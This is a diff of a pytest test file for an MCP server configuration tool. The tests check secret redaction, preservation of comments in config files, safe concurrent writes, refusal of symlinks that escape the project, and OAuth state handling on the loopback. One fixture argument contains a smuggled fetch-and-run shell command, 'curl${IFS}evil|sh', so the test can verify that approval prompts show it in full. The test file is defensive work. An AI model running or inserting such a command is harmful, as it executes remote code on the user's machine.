@@ -7,7 +7,7 @@ import stat
 import pytest
 from hilum import HilumError
 from hilum_guard import Trust
-from hilum_mcp import asked, managing, read_config, saving, sources, tokens
+from hilum_mcp import asked, command, managing, read_config, saving, sources, tokens
 from hilum_mcp.command import _folder
 from hilum_mcp.loopback import open_loopback
 from hilum_mcp.server import Server
@@ -87,14 +87,115 @@ async def test_servers_are_imported_as_they_are_meant(mcp, place, tmp_path):
 
 
 async def test_a_file_that_would_lose_something_is_not_written(mcp):
-    """Comments, a key twice, a table of another name: the file is as it was."""
+    """A key twice, a table of another name, what is no JSON: the file is as it was."""
     file = sources.user_file()
     file.parent.mkdir(parents=True)
-    for text in ('{"mcpServers": {} /* mine */}', '{"mcpServers": {}, "mcpServers": {}}', '{"servers": {}}', "[]", "{"):
+    for text in ('{"mcpServers": {}, "mcpServers": {}}', '{"servers": {}}', "[]", "{", '{"mcpServers": [1]}', "{} {}"):
         file.write_text(text)
         with pytest.raises(HilumError):
             await mcp("add", "x", "--", "y")
         assert file.read_text() == text
+
+
+async def test_secrets_are_not_shown(mcp, place):
+    """Not in a list, not as data, and not in what is asked; what runs is shown in full there."""
+    secret = "hunter2hunter2"
+    program = {
+        "command": "npx",
+        "args": ["--api-key", secret, "TOKEN=`curl${IFS}evil|sh`"],
+        "env": {"DB_PASSWORD": secret, "A": "b"},
+    }
+    address = {
+        "url": f"https://x.example/mcp?api_key={secret}",
+        "headers": {"Authorization": f"Bearer {secret}", "K": "${T}"},
+    }
+    (place / ".mcp.json").write_text(json.dumps({"mcpServers": {"a": program, "b": address}}))
+    Trust().add(place)
+    for argv in (["list"], ["list", "--json"]):
+        assert secret not in (await mcp(*argv))[1]
+    _, said = await mcp("approve", "a", answers=["n"])
+    assert "DB_PASSWORD=(14 characters" in said
+    assert "A=b" in said
+    assert "evil" in said
+    _, said = await mcp("approve", "b", answers=["n"])
+    assert "Authorization: (21 characters" in said
+    assert "K: ${T}" in said
+
+
+MINE = """\ufeff{
+\t// what I work with
+\t"mcpServers": {
+\t\t"a": {"command": "x", "args": ["// no comment", "}"]}, // the first
+\t\t/* the second */
+\t\t"b": {"url": "https://b.example"} // last
+\t}, // end
+\t"inputs": [{"id": "k"},],
+}
+"""
+
+
+@pytest.mark.parametrize("text", [MINE, MINE.replace("\n", "\r\n"), '{"mcpServers": {}}', "{}", "", "// none\n{ }\n"])
+async def test_comments_order_and_form_stay(mcp, tmp_path, text):
+    """Through an addition, a replacement and a removal, and through the link that leads to the file."""
+    real, file = tmp_path / "dotfiles.json", sources.user_file()
+    file.parent.mkdir(parents=True)
+    file.symlink_to(real)
+    real.write_bytes(text.encode())
+    code = tmp_path / "code.json"
+    code.write_text(
+        '{"inputs": [{"id": "q"}], "servers": {"c": {"url": "https://c.example", "headers": {"K": "${input:q}"}}}}'
+    )
+    await mcp("add", "--from", str(code))
+    await mcp("add", "--replace", "c", "--", "new")
+    config = read_config(file)
+    assert config.servers["c"].command == "new"
+    assert "q" in config.inputs
+    assert config.mistakes == ()
+    kept = [
+        line.rstrip("\r").rstrip(",").replace(", // last", " // last")
+        for line in real.read_bytes().decode().split("\n")
+    ]
+    for line in text.split("\n")[:-1]:
+        line = line.rstrip("\r").rstrip(",")
+        assert line in kept or "inputs" in line or "mcpServers" in line or line == "{ }"
+    await mcp("remove", "c")
+    for name in [name for name in ("a", "b") if name in config.servers]:
+        await mcp("remove", name)
+        left = real.read_bytes().decode()
+        assert "// what I work with" in left
+        assert "/* the second */" in left
+    assert read_config(file).servers == {}
+    assert file.is_symlink()
+
+
+def test_two_that_write_at_once_lose_nothing(place):
+    """They wait for each other."""
+    from concurrent.futures import ThreadPoolExecutor
+
+    file = sources.user_file()
+
+    def write(number: int) -> None:
+        saving.add(file, [Server(f"s{number}", "stdio", "x", file=file)], {})
+
+    with ThreadPoolExecutor(8) as pool:
+        list(pool.map(write, range(24)))
+    assert len(read_config(file).servers) == 24
+
+
+async def test_a_file_that_cannot_be_written_is_told(mcp, place):
+    """And a link of a project that leads out of it is not followed."""
+    (place / ".hilum").mkdir()
+    outside = place.parent / "outside.json"
+    outside.write_text("{}")
+    (place / ".hilum/mcp.json").symlink_to(outside)
+    with pytest.raises(HilumError, match="leads out of the project"):
+        await mcp("add", "x", "--project", "--", "y")
+    assert outside.read_text() == "{}"
+    file = sources.user_file()
+    file.parent.mkdir(parents=True)
+    file.mkdir()
+    with pytest.raises(HilumError, match="cannot be read"):
+        await mcp("add", "x", "--", "y")
 
 
 async def test_what_a_project_wants_is_approved_by_a_yes(mcp, place):
@@ -178,6 +279,38 @@ def test_inputs_are_asked_once_and_kept_for_the_user(place, tmp_path):
     assert stat.S_IMODE(asked.file().stat().st_mode) == 0o600
 
 
+def test_what_is_interrupted_ends_without_a_trace(place, monkeypatch, capsys):
+    """Ctrl-C comes in groups, out of whatever was waited for."""
+
+    async def interrupted(*_: object) -> int:
+        raise BaseExceptionGroup("", [BaseExceptionGroup("", [KeyboardInterrupt()])])
+
+    monkeypatch.chdir(place)
+    monkeypatch.setattr(managing, "run", interrupted)
+    assert command.main(["login", "docs"]) == 130
+    assert "Traceback" not in capsys.readouterr().err
+
+
+async def test_where_there_is_nothing_to_log_in_at(mcp):
+    """Each is told why."""
+    file = sources.user_file()
+    file.parent.mkdir(parents=True)
+    servers = {
+        "program": {"command": "x"}, "key": {"url": "https://x.example", "headers": {"authorization": "x"}},
+        "off": {"url": "https://x.example", "oauth": False},
+        "itself": {"url": "https://x.example", "oauth": {"grant": "client_credentials"}},
+    }  # fmt: skip
+    file.write_text(json.dumps({"mcpServers": servers}))
+    for name, why in (
+        ("program", "is a program"),
+        ("key", "has a key"),
+        ("off", "switched off"),
+        ("itself", "by itself"),
+    ):
+        with pytest.raises(HilumError, match=why):
+            await mcp("login", name)
+
+
 def test_the_folder_is_an_option_before_the_command_only():
     """Behind -- everything is the server's own."""
     assert _folder(["-C", "x", "add", "n", "--", "y", "-C", "z"]) == (["add", "n", "--", "y", "-C", "z"], "x")
@@ -215,7 +348,7 @@ async def test_the_loopback_takes_the_answer_with_the_right_state_only(autojump_
 
     async with open_loopback() as loopback:
         assert "400" in await get(loopback.port, "/callback?code=c&state=")
-        loopback.state = "right"
+        loopback.expect("right")
         assert "400" in await get(loopback.port, "/callback?code=c&state=wrong")
         assert "404" in await get(loopback.port, "/other?code=c&state=right")
         assert "404" in await get(loopback.port, "/callback?code=c&state=right", "evil.example")
@@ -223,3 +356,7 @@ async def test_the_loopback_takes_the_answer_with_the_right_state_only(autojump_
         assert "200" in await get(loopback.port, "/callback?code=c&state=right")
         assert "400" in await get(loopback.port, "/callback?code=d&state=right")
         assert (await loopback.wait()).code == "c"
+        loopback.expect("again")
+        assert "400" in await get(loopback.port, "/callback?code=d&state=right")
+        assert "200" in await get(loopback.port, "/callback?code=d&state=again")
+        assert (await loopback.wait()).code == "d"
